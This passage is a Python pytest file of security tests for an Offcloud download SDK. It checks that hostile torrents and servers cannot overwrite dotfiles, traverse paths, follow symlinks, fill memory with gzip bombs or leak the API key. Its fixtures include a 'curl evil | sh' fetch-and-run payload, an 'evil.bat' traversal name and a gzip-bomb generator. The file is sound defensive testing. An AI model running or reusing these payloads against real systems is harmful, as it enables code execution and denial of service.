"""The security review's findings against the library, each reproduced as an attack.

Hostile torrents, links and servers: nothing overwritten, nothing written outside the folder,
no part file of another file resumed, nothing unbounded, and the key nowhere it should not be.
The CLI's own findings (terminal escapes, the credentials file, the sandbox server) are in
`test_security_cli.py`.
"""

from __future__ import annotations

import asyncio
import contextlib
import functools
import os
import socket
import threading
import tracemalloc
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import attrs
import httpx
import pytest
from sdk_support import KEY, Harness
from typer.testing import CliRunner

from offcloud_sdk import AsyncOffcloud, Offcloud
from offcloud_sdk._calls.redaction import redact
from offcloud_sdk._downloads.part_files import PartRecord, source_of, write_record
from offcloud_sdk._downloads.safe_paths import link_name, safe_destination
from offcloud_sdk.cli._app import app
from offcloud_sdk.exceptions import (
    APITimeoutError,
    AuthError,
    DownloadFailedError,
    InvalidArgumentError,
    LocalFileError,
    OffcloudError,
    UnexpectedResponseError,
)
from offcloud_sdk.testing import FakeClock, FakeOffcloud
from offcloud_sdk.testing._storage import LAST_MODIFIED

STORAGE = "https://fr-1.offcloud.com/cloud/download/req/"
INFO = b'{"user_id": "%s", "is_premium": true, "can_download": true}'
"""An `account.info` answer, the user id to fill in."""


def mock_http(harness: Harness, answer: Any, **options: Any) -> Any:
    kind = httpx.AsyncClient if harness.is_async else httpx.Client
    return kind(transport=httpx.MockTransport(answer), **options)


def finished(harness: Harness, name: str, files: dict[str, int | bytes]) -> tuple[Any, Any, str]:
    fake = harness.fake()
    oc = harness.fake_client(fake)
    request = harness.go(oc.cloud.add(url=fake.add_torrent(name, files, cached=True)))
    return fake, oc, request.request_id


def listing(folder: Path) -> dict[str, bytes | str]:
    """Every entry under `folder`: files with their bytes, links with their target."""
    found: dict[str, bytes | str] = {}
    for path in sorted(folder.rglob("*")):
        key = path.relative_to(folder).as_posix()
        if path.is_symlink():
            found[key] = f"-> {os.readlink(path)}"
        elif path.is_file():
            found[key] = path.read_bytes()
    return found


# -- 1. nothing overwritten, nothing hidden -----------------------------------------------------


def test_get_from_a_home_folder_replaces_no_dotfile(tmp_path: Path) -> None:
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "authorized_keys").write_bytes(b"ssh-ed25519 MINE")
    (home / ".bashrc").write_bytes(b"export PS1=mine")
    fake = FakeOffcloud(clock=FakeClock())
    ssh = fake.add_torrent(".ssh", {"authorized_keys": b"ssh-ed25519 EVIL"}, cached=True)
    rc = fake.add_torrent(".bashrc", {".bashrc": b"curl evil | sh"}, cached=True)
    with fake.serve() as base_url, Offcloud(fake.api_key, base_url=base_url) as oc:
        ids = [oc.cloud.add(url=magnet).request_id for magnet in (ssh, rc)]
        env = {"OFFCLOUD_API_KEY": fake.api_key, "OFFCLOUD_BASE_URL": base_url}
        env["XDG_CONFIG_HOME"] = str(tmp_path / "config")
        done = CliRunner().invoke(app, ["get", *ids, "-o", str(home)], env=env)
    assert done.exit_code == 0, done.output
    assert listing(home) == {
        ".bashrc": b"export PS1=mine",
        ".ssh/authorized_keys": b"ssh-ed25519 MINE",
        "_.bashrc": b"curl evil | sh",
        "_.ssh/authorized_keys": b"ssh-ed25519 EVIL",
    }


def test_get_keeps_a_different_file_and_overwrites_only_when_asked(tmp_path: Path) -> None:
    fake = FakeOffcloud(clock=FakeClock())
    magnet = fake.add_torrent("Show", {"e01.mkv": b"the real episode"}, cached=True)
    out = tmp_path / "out"
    (out / "Show").mkdir(parents=True)
    (out / "Show" / "e01.mkv").write_bytes(b"my own notes, same name")
    with fake.serve() as base_url, Offcloud(fake.api_key, base_url=base_url) as oc:
        request_id = oc.cloud.add(url=magnet).request_id
        env = {"OFFCLOUD_API_KEY": fake.api_key, "OFFCLOUD_BASE_URL": base_url}
        env["XDG_CONFIG_HOME"] = str(tmp_path / "config")
        kept = CliRunner().invoke(app, ["get", request_id, "-o", str(out)], env=env)
        assert kept.exit_code == 0, kept.output
        assert listing(out) == {
            "Show/e01 (2).mkv": b"the real episode",
            "Show/e01.mkv": b"my own notes, same name",
        }
        replaced = CliRunner().invoke(
            app, ["get", "--overwrite", request_id, "-o", str(out)], env=env
        )
    assert replaced.exit_code == 0, replaced.output
    assert listing(out)["Show/e01.mkv"] == b"the real episode"


def test_files_download_takes_a_free_name_beside_another_file(
    harness: Harness, tmp_path: Path
) -> None:
    _fake, oc, request_id = finished(harness, "Show", {"e01.mkv": b"episode"})
    link = harness.go(oc.cloud.files(request_id))[0].url
    (tmp_path / "e01.mkv").write_bytes(b"mine")
    (tmp_path / "e01 (2).mkv").write_bytes(b"mine too")
    got = harness.go(oc.files.download(link, tmp_path))
    assert got == tmp_path / "e01 (3).mkv"
    assert listing(tmp_path) == {
        "e01 (2).mkv": b"mine too",
        "e01 (3).mkv": b"episode",
        "e01.mkv": b"mine",
    }


def test_the_same_file_already_there_is_skipped_without_its_body(
    harness: Harness, tmp_path: Path
) -> None:
    fake, oc, request_id = finished(harness, "Show", {"e01.mkv": 5 << 20})
    link = harness.go(oc.cloud.files(request_id))[0].url
    first = harness.go(oc.files.download(link, tmp_path))
    sent: list[int] = []
    handle = fake.handle

    def counted(chunks: Any) -> Iterator[bytes]:
        for chunk in chunks:
            sent.append(len(chunk))
            yield chunk

    def counting(request: httpx.Request) -> Any:
        answer = handle(request)
        return attrs.evolve(answer, body=counted(answer.chunks()))

    fake.handle = counting  # type: ignore[method-assign]
    again = harness.go(oc.files.download(link, tmp_path))
    assert again == first
    assert [p.name for p in tmp_path.iterdir()] == ["e01.mkv"]
    assert sum(sent) < 5 << 20  # the answer was closed after its headers


def test_overwrite_replaces_in_files_and_cloud_download(harness: Harness, tmp_path: Path) -> None:
    _fake, oc, request_id = finished(harness, "Show", {"e01.mkv": b"episode"})
    link = harness.go(oc.cloud.files(request_id))[0].url
    (tmp_path / "e01.mkv").write_bytes(b"old")
    assert harness.go(oc.files.download(link, tmp_path, overwrite=True)) == tmp_path / "e01.mkv"
    (tmp_path / "Show").mkdir()
    (tmp_path / "Show" / "e01.mkv").write_bytes(b"old")
    paths = harness.go(oc.cloud.download(request_id, tmp_path, overwrite=True))
    assert paths == [tmp_path / "Show" / "e01.mkv"]
    assert listing(tmp_path) == {"Show/e01.mkv": b"episode", "e01.mkv": b"episode"}


def test_cloud_download_returns_the_free_name_it_used(harness: Harness, tmp_path: Path) -> None:
    _fake, oc, request_id = finished(harness, "Show", {"a.txt": b"new"})
    (tmp_path / "Show").mkdir()
    (tmp_path / "Show" / "a.txt").write_bytes(b"a different, longer file")
    paths = harness.go(oc.cloud.download(request_id, tmp_path))
    assert paths == [tmp_path / "Show" / "a (2).txt"]
    assert paths[0].read_bytes() == b"new"


# -- 2. the key only to the API's own origin ----------------------------------------------------


@pytest.mark.parametrize(
    ("base_url", "link", "gets_key"),
    [
        ("https://offcloud.test", "https://offcloud.test/f.bin", True),
        ("https://offcloud.test", "https://offcloud.test:443/f.bin", True),
        ("https://offcloud.test", "http://offcloud.test/f.bin", False),
        ("https://offcloud.test", "https://offcloud.test:8080/f.bin", False),
        ("https://offcloud.test", "https://fr-1.offcloud.test/f.bin", False),
        ("https://localhost:9", "http://localhost:8080/f.bin", False),
        ("http://localhost:9", "http://localhost:9/f.bin", True),
        ("http://localhost:9", "http://localhost:10/f.bin", False),
    ],
)
def test_the_key_goes_only_to_the_same_scheme_host_and_port(
    harness: Harness, tmp_path: Path, base_url: str, link: str, gets_key: bool
) -> None:
    seen: list[httpx.Request] = []

    def answer(request: httpx.Request) -> httpx.Response:
        seen.append(request)
        return httpx.Response(200, content=b"data")

    oc = harness.client(http_client=mock_http(harness, answer), base_url=base_url)
    harness.go(oc.files.download(link, tmp_path))
    assert ("authorization" in seen[0].headers) is gets_key
    assert KEY not in str(seen[0].url)


# -- 3. symlinks are never followed -------------------------------------------------------------


@pytest.mark.parametrize("recorded", [False, True])
def test_a_symlinked_part_file_is_not_followed(
    harness: Harness, tmp_path: Path, recorded: bool
) -> None:
    _fake, oc, request_id = finished(harness, "Movie", {"video.mp4": b"video" * 1000})
    victim = tmp_path / "victim.txt"
    victim.write_bytes(b"precious")
    dl = tmp_path / "dl"
    (dl / "Movie").mkdir(parents=True)
    part = dl / "Movie" / "video.mp4.part"
    os.symlink(victim, part)
    if recorded:  # as if our own part had been swapped for a link after it was recorded
        link = harness.go(oc.cloud.files(request_id))[0].url
        write_record(part, PartRecord(5000, None, None, source_of(link)))
        with pytest.raises(LocalFileError, match=r"video\.mp4\.part"):
            harness.go(oc.cloud.download(request_id, dl))
    else:  # not a download's part: kept, and the file takes a free name
        paths = harness.go(oc.cloud.download(request_id, dl))
        assert paths == [dl / "Movie" / "video (2).mp4"]
        assert paths[0].read_bytes() == b"video" * 1000
    assert victim.read_bytes() == b"precious"
    assert part.is_symlink()
    assert not os.path.lexists(dl / "Movie" / "video.mp4")


def test_a_folder_turned_into_a_symlink_mid_download_is_refused(
    harness: Harness, tmp_path: Path
) -> None:
    fake, oc, request_id = finished(harness, "Show", {"S1/e01.mkv": b"episode"})
    outside = tmp_path / "outside"
    outside.mkdir()
    dl = tmp_path / "dl"
    handle = fake.handle

    def swapping(request: httpx.Request) -> Any:
        if request.url.path.startswith("/cloud/download/"):  # planned and checked by now
            season = dl / "Show" / "S1"
            season.rmdir()
            os.symlink(outside, season)
        return handle(request)

    fake.handle = swapping  # type: ignore[method-assign]
    with pytest.raises(LocalFileError, match="outside"):
        harness.go(oc.cloud.download(request_id, dl))
    assert list(outside.iterdir()) == []


def test_a_symlink_at_the_destination_is_neither_followed_nor_replaced(
    harness: Harness, tmp_path: Path
) -> None:
    _fake, oc, request_id = finished(harness, "Show", {"e01.mkv": b"episode"})
    victim = tmp_path / "victim.txt"
    victim.write_bytes(b"precious")
    dl = tmp_path / "dl"
    (dl / "Show").mkdir(parents=True)
    os.symlink(victim, dl / "Show" / "e01.mkv")
    paths = harness.go(oc.cloud.download(request_id, dl))
    assert paths == [dl / "Show" / "e01 (2).mkv"]
    assert victim.read_bytes() == b"precious"
    assert (dl / "Show" / "e01.mkv").is_symlink()


# -- 4. a part file is resumed only when it belongs to the file ---------------------------------


@pytest.mark.parametrize("foreign", [40, 100])
def test_a_part_left_by_another_file_is_never_mixed_in(
    harness: Harness, tmp_path: Path, foreign: int
) -> None:
    _fake, oc, request_id = finished(harness, "Show", {"f.bin": b"B" * 100})
    link = harness.go(oc.cloud.files(request_id))[0].url
    (tmp_path / "f.bin.part").write_bytes(b"A" * foreign)
    got = harness.go(oc.files.download(link, tmp_path))
    assert got.read_bytes() == b"B" * 100
    # not a download's part (no record): someone's own file, so neither resumed nor deleted
    assert listing(tmp_path) == {"f (2).bin": b"B" * 100, "f.bin.part": b"A" * foreign}


def test_a_part_of_a_file_that_changed_starts_over(harness: Harness, tmp_path: Path) -> None:
    fake, oc, request_id = finished(harness, "Show", {"f.bin": b"B" * 100})
    link = harness.go(oc.cloud.files(request_id))[0].url
    part = tmp_path / "f.bin.part"
    part.write_bytes(b"A" * 40)  # from an older version of the file: another ETag
    write_record(part, PartRecord(100, '"older"', LAST_MODIFIED, source_of(link)))
    seen: list[tuple[str | None, str | None]] = []
    handle = fake.handle

    def recording(request: httpx.Request) -> Any:
        if request.url.path.startswith("/cloud/download/"):
            seen.append((request.headers.get("range"), request.headers.get("if-range")))
        return handle(request)

    fake.handle = recording  # type: ignore[method-assign]
    got = harness.go(oc.files.download(link, tmp_path))
    assert seen == [("bytes=40-", '"older"')]  # the server sent all of it: If-Range failed
    assert got.read_bytes() == b"B" * 100


def test_a_416_counts_as_complete_only_for_the_same_file(harness: Harness, tmp_path: Path) -> None:
    def answer(request: httpx.Request) -> httpx.Response:
        if "range" in request.headers:
            return httpx.Response(416, headers={"content-range": "bytes */100", "etag": '"new"'})
        return httpx.Response(200, content=b"B" * 100, headers={"etag": '"new"'})

    link = STORAGE + "f.bin"
    part = tmp_path / "f.bin.part"
    part.write_bytes(b"A" * 100)
    write_record(part, PartRecord(100, '"old"', None, source_of(link)))
    oc = harness.client(http_client=mock_http(harness, answer))
    assert harness.go(oc.files.download(link, tmp_path)).read_bytes() == b"B" * 100


# -- 6. an answer's size is bounded as it is read -----------------------------------------------


@functools.cache
def gzip_bomb(size: int) -> bytes:
    """`size` zero bytes, gzipped (1 GiB makes about 1 MB)."""
    packer = zlib.compressobj(9, zlib.DEFLATED, zlib.MAX_WBITS | 16)
    block = bytes(1 << 20)
    return b"".join(packer.compress(block) for _ in range(size >> 20)) + packer.flush()


def test_a_gzip_bomb_answer_is_not_inflated(harness: Harness) -> None:
    bomb = gzip_bomb(1 << 30)
    assert len(bomb) < 1_100_000

    def answer(request: httpx.Request) -> httpx.Response:
        headers = {"content-encoding": "gzip", "content-type": "application/json"}
        return httpx.Response(200, headers=headers, stream=_Stream(lambda: iter([bomb])))

    oc = harness.client(http_client=mock_http(harness, answer))
    tracemalloc.start()
    try:
        with pytest.raises(UnexpectedResponseError, match="larger than 16777216 bytes"):
            harness.go(oc.account.info())
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 48 << 20


def test_a_huge_answer_is_refused_while_it_arrives(harness: Harness) -> None:
    sent: list[int] = []

    def body() -> Iterator[bytes]:
        yield b'{"user_id": "'
        for _ in range(300):  # 300 MB
            sent.append(1 << 20)
            yield b"x" * (1 << 20)

    def answer(request: httpx.Request) -> httpx.Response:
        return httpx.Response(200, stream=_Stream(body))

    oc = harness.client(http_client=mock_http(harness, answer))
    with pytest.raises(UnexpectedResponseError, match="max_answer_size"):
        harness.go(oc.account.info())
    assert sum(sent) <= 17 << 20


class _Stream(httpx.SyncByteStream, httpx.AsyncByteStream):
    """A body made as it is read, for sync and async clients."""

    def __init__(self, make: Any) -> None:
        self.make = make

    def __iter__(self) -> Iterator[bytes]:
        yield from self.make()

    async def __aiter__(self) -> Any:
        for chunk in self.make():
            yield chunk


def test_the_answer_size_is_a_setting(harness: Harness) -> None:
    def answer(request: httpx.Request) -> httpx.Response:
        body = INFO % (b"u" * 2000)
        return httpx.Response(200, stream=_Stream(lambda: iter([body])))

    oc = harness.client(http_client=mock_http(harness, answer), max_answer_size=1000)
    assert oc.max_answer_size == 1000
    with pytest.raises(UnexpectedResponseError, match="larger than 1000 bytes"):
        harness.go(oc.account.info())
    roomy = oc.with_options(max_answer_size=1 << 20)
    assert harness.go(roomy.account.info()).user_id == "u" * 2000
    with pytest.raises(InvalidArgumentError):
        harness.client(max_answer_size=0)


@pytest.mark.parametrize("encoding", ["br", "gzip, gzip", "zstd", "compress"])
def test_an_encoding_nobody_asked_for_is_refused(harness: Harness, encoding: str) -> None:
    def answer(request: httpx.Request) -> httpx.Response:
        assert request.headers["accept-encoding"] == "gzip, deflate"
        headers = {"content-encoding": encoding}
        return httpx.Response(200, headers=headers, stream=_Stream(lambda: iter([b"xx"])))

    oc = harness.client(http_client=mock_http(harness, answer))
    with pytest.raises(UnexpectedResponseError, match="not asked for"):
        harness.go(oc.account.info())


@pytest.mark.parametrize("wrapped", [True, False])
def test_deflate_answers_still_read(harness: Harness, wrapped: bool) -> None:
    packer = zlib.compressobj(6, zlib.DEFLATED, zlib.MAX_WBITS if wrapped else -zlib.MAX_WBITS)
    body = packer.compress(INFO % b"u1") + packer.flush()

    def answer(request: httpx.Request) -> httpx.Response:
        headers = {"content-encoding": "deflate"}
        return httpx.Response(200, headers=headers, stream=_Stream(lambda: iter([body])))

    oc = harness.client(http_client=mock_http(harness, answer))
    assert harness.go(oc.account.info()).user_id == "u1"


# -- 7. time and attempts are bounded -----------------------------------------------------------


@contextlib.contextmanager
def raw_server(answer: Callable[[socket.socket], None]) -> Iterator[str]:
    """A loopback server that hands each connection to `answer`, one at a time; yields its URL."""
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(0.1)
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                connection, _ = listener.accept()
            except TimeoutError:
                continue
            with connection:
                answer(connection)

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{listener.getsockname()[1]}"
    finally:
        stop.set()
        thread.join()
        listener.close()


@pytest.fixture
def trickling_server() -> Iterator[tuple[str, FakeClock, list[int]]]:
    """A loopback server whose answer's body comes one byte per 0.5 s on the test's clock: it
    moves the clock before each byte, so no read ever waits and nobody sleeps."""
    clock = FakeClock()
    attempts: list[int] = []

    def trickle(connection: socket.socket) -> None:
        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        connection.recv(65536)
        attempts.append(1)
        body = INFO % (b"u" * 200)
        connection.sendall(f"HTTP/1.1 200 OK\r\nContent-Length: {len(body)}\r\n\r\n".encode())
        with contextlib.suppress(OSError):  # the client gives up, as it should
            for byte in body:
                clock.advance(0.5)
                connection.sendall(bytes([byte]))

    with raw_server(trickle) as base_url:
        yield base_url, clock, attempts


def test_a_trickling_answer_ends_at_the_total_timeout(
    trickling_server: tuple[str, FakeClock, list[int]],
) -> None:
    base_url, clock, attempts = trickling_server
    with Offcloud(KEY, base_url=base_url, timeout=1, clock=clock) as oc:
        assert oc.total_timeout == 4.0
        with pytest.raises(APITimeoutError, match="total_timeout"):
            oc.account.info()
        assert len(attempts) == 3  # max_retries 2
        with pytest.raises(APITimeoutError, match="longer than 2 s"):
            oc.with_options(total_timeout=2, max_retries=0).account.info()


def test_total_timeout_is_checked(harness: Harness) -> None:
    with pytest.raises(InvalidArgumentError, match="total_timeout"):
        harness.client(total_timeout=0)
    assert harness.client(timeout=10).total_timeout == 40.0
    assert harness.client(total_timeout=7).total_timeout == 7.0


def test_a_download_that_gets_no_further_gives_up(harness: Harness, tmp_path: Path) -> None:
    """The server alternates "200, 10 bytes, then drop" and "206 at the wrong offset"."""
    requests: list[str | None] = []

    def ten_bytes_then_drop() -> Iterator[bytes]:
        yield b"0123456789"
        raise httpx.ReadError("dropped")

    def answer(request: httpx.Request) -> httpx.Response:
        requests.append(request.headers.get("range"))
        if "range" in request.headers:
            return httpx.Response(206, headers={"content-range": "bytes 0-99/100"}, content=b"")
        return httpx.Response(
            200, headers={"content-length": "100"}, stream=_Stream(ten_bytes_then_drop)
        )

    oc = harness.client(http_client=mock_http(harness, answer), max_retries=2)
    with pytest.raises(OffcloudError):
        harness.go(oc.files.download(STORAGE + "f.bin", tmp_path))
    assert requests == [None, "bytes=10-", None, "bytes=10-"]


# -- 8. names from links are cleaned as torrent names are ---------------------------------------


def test_backslashes_in_a_link_name_make_no_path(harness: Harness, tmp_path: Path) -> None:
    def answer(request: httpx.Request) -> httpx.Response:
        return httpx.Response(200, content=b"@echo pwned")

    oc = harness.client(http_client=mock_http(harness, answer))
    link = STORAGE + "..%5C..%5CUsers%5CPublic%5Cevil.bat"
    got = harness.go(oc.files.download(link, tmp_path))
    assert got == tmp_path / "evil.bat"
    assert listing(tmp_path) == {"evil.bat": b"@echo pwned"}
    assert link_name("..\\..\\Users\\Public\\evil.bat") == "evil.bat"
    assert safe_destination(tmp_path, "..\\..\\Users\\Public\\evil.bat") == (
        tmp_path / "Users" / "Public" / "evil.bat"
    )


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        (".bashrc", "_.bashrc"),
        ("..hidden", "_..hidden"),
        ("a\u202etxt.exe", "a_txt.exe"),
        ("rlm\u200fnib.exe", "rlm_nib.exe"),
        ("sep\u2028line.bin", "sep_line.bin"),
        ("tag\U000e0041.txt", "tag_.txt"),
        ("soft\u00adhyphen", "soft_hyphen"),
        ("family\U0001f468\u200d\U0001f467.jpg", "family\U0001f468\u200d\U0001f467.jpg"),
    ],
)
def test_names_hide_nothing(name: str, safe: str) -> None:
    assert link_name(name) == safe


# -- 10. plain http only on loopback, and never through a proxy ---------------------------------


@pytest.fixture
def proxy() -> Iterator[tuple[str, list[bytes]]]:
    """A 'proxy' on loopback that records what reaches it and answers 502."""
    seen: list[bytes] = []

    def refuse(connection: socket.socket) -> None:
        seen.append(connection.recv(65536))
        connection.sendall(b"HTTP/1.1 502 Bad Gateway\r\nContent-Length: 0\r\n\r\n")

    with raw_server(refuse) as proxy_url:
        yield proxy_url, seen


def test_plain_http_on_loopback_never_goes_through_a_proxy(
    proxy: tuple[str, list[bytes]], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    proxy_url, seen = proxy
    for name in ("HTTP_PROXY", "http_proxy", "ALL_PROXY", "all_proxy"):
        monkeypatch.setenv(name, proxy_url)
    for name in ("NO_PROXY", "no_proxy"):
        monkeypatch.delenv(name, raising=False)
    fake = FakeOffcloud()
    magnet = fake.add_torrent("Show", {"a.txt": b"a"}, cached=True)
    with fake.serve() as base_url, Offcloud(fake.api_key, base_url=base_url, key_in="both") as oc:
        assert oc.account.info().user_id == fake.user_id
        request_id = oc.cloud.add(url=magnet).request_id
        oc.cloud.download(request_id, tmp_path)
    assert seen == []


def test_a_users_client_with_a_proxy_is_refused_for_plain_http() -> None:
    proxied = httpx.Client(proxy="http://127.0.0.1:1")
    with pytest.raises(InvalidArgumentError, match="proxy"):
        Offcloud(KEY, base_url="http://127.0.0.1:9", http_client=proxied)
    Offcloud(KEY, base_url="https://offcloud.test", http_client=proxied)  # https: fine
    proxied.close()


@pytest.mark.parametrize("host", ["evil.localhost", "localhost.example", "127.0.0.1.nip.io"])
def test_only_real_loopback_names_may_be_plain_http(host: str) -> None:
    with pytest.raises(InvalidArgumentError, match="plain http"):
        Offcloud(KEY, base_url=f"http://{host}:8080")


# -- 11. the key is masked in the answers an error keeps ----------------------------------------


def test_redirect_history_keeps_no_key(harness: Harness) -> None:
    def answer(request: httpx.Request) -> httpx.Response:
        if request.url.path == "/api/account/info":
            return httpx.Response(302, headers={"location": "/api/account/info2"})
        return httpx.Response(401, json={"error": "NOAUTH"})

    http = mock_http(harness, answer, follow_redirects=True)
    oc = harness.client(http_client=http, key_in="both")
    with pytest.raises(AuthError) as caught:
        harness.go(oc.account.info())
    response = caught.value.response
    assert response is not None
    assert response.history
    for kept in (*response.history, response):
        assert KEY not in str(kept.request.url)
        assert kept.request.headers["authorization"] == "Bearer ***"


# -- 12. numbers from a server never escape as ValueError ---------------------------------------


@pytest.mark.parametrize(
    "headers",
    [
        {"content-range": "bytes 0-9/" + "9" * 5000},
        {"content-range": "bytes " + "1" * 5000 + "-9/10"},
        {"content-length": "7" * 5000},
    ],
)
def test_huge_numbers_in_headers_are_no_value_error(
    harness: Harness, tmp_path: Path, headers: dict[str, str]
) -> None:
    status = 206 if "content-range" in headers else 200

    def answer(request: httpx.Request) -> httpx.Response:
        return httpx.Response(status, headers=headers, stream=_Stream(lambda: iter([b"x" * 10])))

    oc = harness.client(http_client=mock_http(harness, answer), max_retries=1)
    with contextlib.suppress(OffcloudError):  # failing is fine; a ValueError is not
        harness.go(oc.files.download(STORAGE + "f.bin", tmp_path))


def test_a_huge_retry_after_is_no_value_error(harness: Harness) -> None:
    def answer(request: httpx.Request) -> httpx.Response:
        return httpx.Response(429, headers={"retry-after": "9" * 5000})

    oc = harness.client(http_client=mock_http(harness, answer))
    with pytest.raises(OffcloudError) as caught:
        harness.go(oc.account.info())
    assert getattr(caught.value, "retry_after", None) is None


# -- 13. no server fills the disk ---------------------------------------------------------------


def test_an_encoded_download_is_refused_before_a_byte_is_written(
    harness: Harness, tmp_path: Path
) -> None:
    bomb = gzip_bomb(64 << 20)

    def answer(request: httpx.Request) -> httpx.Response:
        headers = {"content-encoding": "gzip"}
        return httpx.Response(200, headers=headers, stream=_Stream(lambda: iter([bomb])))

    oc = harness.client(http_client=mock_http(harness, answer))
    with pytest.raises(UnexpectedResponseError, match="encoded"):
        harness.go(oc.files.download(STORAGE + "f.bin", tmp_path))
    assert list(tmp_path.iterdir()) == []


def test_more_than_a_range_announced_stops_as_it_arrives(harness: Harness, tmp_path: Path) -> None:
    link = STORAGE + "f.bin"
    part = tmp_path / "f.bin.part"
    part.write_bytes(b"A" * 10)
    write_record(part, PartRecord(1000, None, None, source_of(link)))
    sent: list[int] = []

    def endless() -> Iterator[bytes]:
        for _ in range(200):  # 200 MB
            sent.append(1 << 20)
            yield b"B" * (1 << 20)

    def answer(request: httpx.Request) -> httpx.Response:
        headers = {"content-range": "bytes 10-19/1000"}
        return httpx.Response(206, headers=headers, stream=_Stream(endless))

    oc = harness.client(http_client=mock_http(harness, answer))
    with pytest.raises(UnexpectedResponseError, match="more than the 20 bytes announced"):
        harness.go(oc.files.download(link, tmp_path))
    assert sum(sent) <= 1 << 20
    assert list(tmp_path.iterdir()) == []


# -- found by attacking the fixes ---------------------------------------------------------------


def test_a_torrent_cannot_plant_part_files_or_records(harness: Harness, tmp_path: Path) -> None:
    files: dict[str, int | bytes] = {
        "tool.bin": b"the real tool",
        "tool.bin.part": b"EVIL",
        "tool.bin.part.json": b'{"total": 13}',
        "movie.mkv.PART": b"x",
    }
    _fake, oc, request_id = finished(harness, "T", files)
    paths = harness.go(oc.cloud.download(request_id, tmp_path))
    assert [p.name for p in paths] == [
        "tool.bin",
        "tool.bin.part_",
        "tool.bin.part.json_",
        "movie.mkv.PART_",
    ]
    assert listing(tmp_path)["T/tool.bin"] == b"the real tool"


def test_someones_own_part_file_is_neither_deleted_nor_resumed(
    harness: Harness, tmp_path: Path
) -> None:
    def answer(request: httpx.Request) -> httpx.Response:
        assert "range" not in request.headers
        return httpx.Response(200, content=b"the report")

    (tmp_path / "report.pdf.part").write_bytes(b"my draft")
    oc = harness.client(http_client=mock_http(harness, answer))
    got = harness.go(oc.files.download(STORAGE + "report.pdf", tmp_path / "report.pdf"))
    assert got == tmp_path / "report (2).pdf"
    assert listing(tmp_path) == {"report (2).pdf": b"the report", "report.pdf.part": b"my draft"}


@pytest.mark.parametrize("encoding", ["gzip", "gzip, gzip"])
def test_an_error_page_cannot_be_a_compression_bomb(
    harness: Harness, tmp_path: Path, encoding: str
) -> None:
    bomb = gzip_bomb(256 << 20)
    if encoding == "gzip, gzip":
        bomb = zlib.compress(bomb, wbits=zlib.MAX_WBITS | 16)

    def answer(request: httpx.Request) -> httpx.Response:
        headers = {"content-encoding": encoding}
        return httpx.Response(404, headers=headers, stream=_Stream(lambda: iter([bomb])))

    oc = harness.client(http_client=mock_http(harness, answer))
    tracemalloc.start()
    try:
        with pytest.raises(OffcloudError) as caught:
            harness.go(oc.files.download(STORAGE + "f.bin", tmp_path))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 16 << 20
    assert caught.value.response is not None
    assert len(caught.value.response.content) <= 1 << 20


def test_an_encoded_range_is_refused(harness: Harness, tmp_path: Path) -> None:
    link = STORAGE + "f.bin"
    part = tmp_path / "f.bin.part"
    part.write_bytes(b"A" * 10)
    write_record(part, PartRecord(1000, None, None, source_of(link)))

    def answer(request: httpx.Request) -> httpx.Response:
        headers = {"content-range": "bytes 10-999/1000", "content-encoding": "gzip"}
        return httpx.Response(206, headers=headers, stream=_Stream(lambda: iter([b"x"])))

    oc = harness.client(http_client=mock_http(harness, answer))
    with pytest.raises(UnexpectedResponseError, match="encoded"):
        harness.go(oc.files.download(link, tmp_path))
    assert part.read_bytes() == b"A" * 10


def test_a_range_past_the_files_end_is_not_written(harness: Harness, tmp_path: Path) -> None:
    link = STORAGE + "f.bin"
    part = tmp_path / "f.bin.part"
    part.write_bytes(b"A" * 500)
    write_record(part, PartRecord(1000, None, None, source_of(link)))
    sent: list[int] = []

    def endless() -> Iterator[bytes]:
        for _ in range(200):
            sent.append(1 << 20)
            yield b"B" * (1 << 20)

    def answer(request: httpx.Request) -> httpx.Response:
        headers = {"content-range": "bytes 500-999999999999/1000"}
        return httpx.Response(206, headers=headers, stream=_Stream(endless))

    oc = harness.client(http_client=mock_http(harness, answer), max_retries=1)
    with pytest.raises(OffcloudError):
        harness.go(oc.files.download(link, tmp_path))
    assert sum(sent) <= 2 << 20
    assert list(tmp_path.iterdir()) == []


def test_a_trickling_error_page_is_read_no_longer_than_total_timeout(
    harness: Harness, tmp_path: Path
) -> None:
    sent: list[int] = []

    def trickle() -> Iterator[bytes]:
        for _ in range(10_000):
            harness.clock.advance(0.5)
            sent.append(1)
            yield b"x"

    def answer(request: httpx.Request) -> httpx.Response:
        return httpx.Response(404, stream=_Stream(trickle))

    oc = harness.client(http_client=mock_http(harness, answer), timeout=1)
    with pytest.raises(OffcloudError):
        harness.go(oc.files.download(STORAGE + "f.bin", tmp_path))
    assert len(sent) <= 10


@pytest.fixture
def trickling_headers() -> Iterator[tuple[str, FakeClock]]:
    """A loopback server that sends its answer's headers one byte per 0.5 s (its clock)."""
    clock = FakeClock()

    def trickle(connection: socket.socket) -> None:
        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        connection.recv(65536)
        head = b"HTTP/1.1 200 OK\r\n" + b"X-Slow: " + b"s" * 8000 + b"\r\n\r\n"
        start = clock.now()
        with contextlib.suppress(OSError):
            for byte in head:
                clock.advance(0.5)
                connection.sendall(bytes([byte]))
                if clock.now() - start > 100:  # far past the deadline: the client gave up
                    return

    with raw_server(trickle) as base_url:
        yield base_url, clock


def test_trickling_headers_end_at_the_total_timeout(
    trickling_headers: tuple[str, FakeClock],
) -> None:
    base_url, clock = trickling_headers
    oc = Offcloud(KEY, base_url=base_url, timeout=1, max_retries=0, clock=clock)
    # Without the deadline the server would stop at 100 s and close: a connection error. How
    # far past 4 s its clock ran first depends on scheduling, so it is not asserted.
    with oc, pytest.raises(APITimeoutError, match="total_timeout"):
        oc.account.info()


def test_a_proxy_transport_is_refused_for_plain_http() -> None:
    proxied = httpx.Client(transport=httpx.HTTPTransport(proxy="http://127.0.0.1:1"))
    with pytest.raises(InvalidArgumentError, match="proxy"):
